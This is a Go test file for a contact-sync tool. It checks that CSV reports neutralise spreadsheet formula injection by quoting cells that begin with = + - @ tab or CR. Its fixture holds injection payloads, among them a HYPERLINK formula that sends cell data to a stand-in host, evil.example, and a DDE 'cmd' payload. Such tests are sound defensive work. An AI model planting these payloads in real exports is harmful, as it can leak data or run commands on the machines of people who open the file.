package main

import (
	"bytes"
	"encoding/csv"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/bulksync/bulksync/gen/linq"
	"github.com/bulksync/bulksync/internal/linqfake"
)

// formulaExport is an export whose names a spreadsheet would run as
// formulas; with the live cards below, the report has cells starting with
// each of = + - @ tab and CR.
const formulaExport = `phone_number,first_name,last_name
+12125550101,"=HYPERLINK(""http://evil.example/?""&A1;""click"")","+cmd|' /C calc'!A0"
+12125550102,-40000+2,@SUM(40000;2)
+12125550103,-42,+43
=1+2,Eve,Formula
+12125550104,=cmd,Missing
`

// The report opens in a spreadsheet with every column and runs no
// formula: every cell that starts with = + - @ tab or CR is prefixed with a
// quote, except plain numbers (E.164 phone numbers above all), which stay as
// they are.
func TestReportNeutralisesFormulas(t *testing.T) {
	const token = "formula-test-token"
	fake := linqfake.New(linqfake.Options{Token: token, Lines: []string{"+12125550101", "+12125550102", "+12125550103", "+12125550104"}})
	str := func(s string) *string { return &s }
	fake.PutCard(linq.ContactCard{PhoneNumber: "+12125550101", FirstName: "\tTAB=1+1", LastName: str("\rCR=1+1"), IsActive: true})
	fake.PutCard(linq.ContactCard{PhoneNumber: "+12125550102", FirstName: "Grace", LastName: str("@Hopper"), IsActive: true})
	fake.PutCard(linq.ContactCard{PhoneNumber: "+12125550103", FirstName: "Alan", LastName: str("Turing"), IsActive: true})
	srv := httptest.NewServer(fake.Handler())
	defer srv.Close()

	dir := t.TempDir()
	input, reportPath := filepath.Join(dir, "export.csv"), filepath.Join(dir, "report.csv")
	if err := os.WriteFile(input, []byte(formulaExport), 0o644); err != nil {
		t.Fatal(err)
	}
	vars := map[string]string{"LINQ_API_V3_BASE_URL": srv.URL, "LINQ_API_V3_API_KEY": token, "XDG_STATE_HOME": dir}
	var stderr bytes.Buffer
	code := run([]string{"plan", "--input", input, "--report", reportPath}, &env{
		stdout: &bytes.Buffer{}, stderr: &stderr, getenv: func(k string) string { return vars[k] },
	})
	if code != 1 { // the invalid and the missing rows do not sync
		t.Fatalf("plan exited %d, want 1:\n%s", code, stderr.String())
	}
	raw, err := os.ReadFile(reportPath)
	if err != nil {
		t.Fatal(err)
	}

	// Every row has every column.
	r := csv.NewReader(bytes.NewReader(raw))
	r.FieldsPerRecord = len(strings.Split(reportHeader, ","))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the report is not rectangular CSV: %v\n%s", err, raw)
	}
	if strings.Join(rows[0], ",") != reportHeader || len(rows) != 6 {
		t.Fatalf("header %q and %d rows:\n%s", rows[0], len(rows)-1, raw)
	}

	// No cell would run as a formula.
	plainNumber := regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				t.Errorf("row %d, %s: %q would run as a formula", i+1, rows[0][j], cell)
			}
		}
	}

	// Each kind of cell, as written.
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	byLine := map[string][]string{}
	for _, row := range rows[1:] {
		byLine[row[0]] = row
	}
	for _, c := range []struct{ line, column, want string }{
		{"2", "phone_number", "+12125550101"}, // E.164: not quoted
		{"2", "first_name_new", `'=HYPERLINK("http://evil.example/?"&A1;"click")`},
		{"2", "last_name_new", `'+cmd|' /C calc'!A0`},
		{"2", "first_name_old", "'\tTAB=1+1"},
		{"2", "last_name_old", "'\rCR=1+1"},
		{"3", "first_name_new", "'-40000+2"},
		{"3", "last_name_new", "'@SUM(40000;2)"},
		{"3", "last_name_old", "'@Hopper"},
		{"4", "first_name_new", "-42"}, // plain numbers stay numbers
		{"4", "last_name_new", "+43"},
		{"5", "phone_number", "'=1+2"}, // an invalid number is the raw cell
		{"6", "phone_number", "+12125550104"},
		{"6", "first_name_new", "'=cmd"},
	} {
		row, ok := byLine[c.line]
		if !ok {
			t.Errorf("no row for line %s", c.line)
			continue
		}
		if got := row[col[c.column]]; got != c.want {
			t.Errorf("line %s, %s: %q, want %q", c.line, c.column, got, c.want)
		}
	}

	// And the bytes: E.164 numbers bare, CR and tab cells quoted for CSV
	// and neutralised inside the quotes.
	for _, want := range []string{"\n2,+12125550101,update,", "\n6,+12125550104,missing,", "\"'\rCR=1+1\"", "'\tTAB=1+1", "\n5,'=1+2,invalid,"} {
		if !bytes.Contains(raw, []byte(want)) {
			t.Errorf("the report's bytes lack %q:\n%s", want, raw)
		}
	}
}
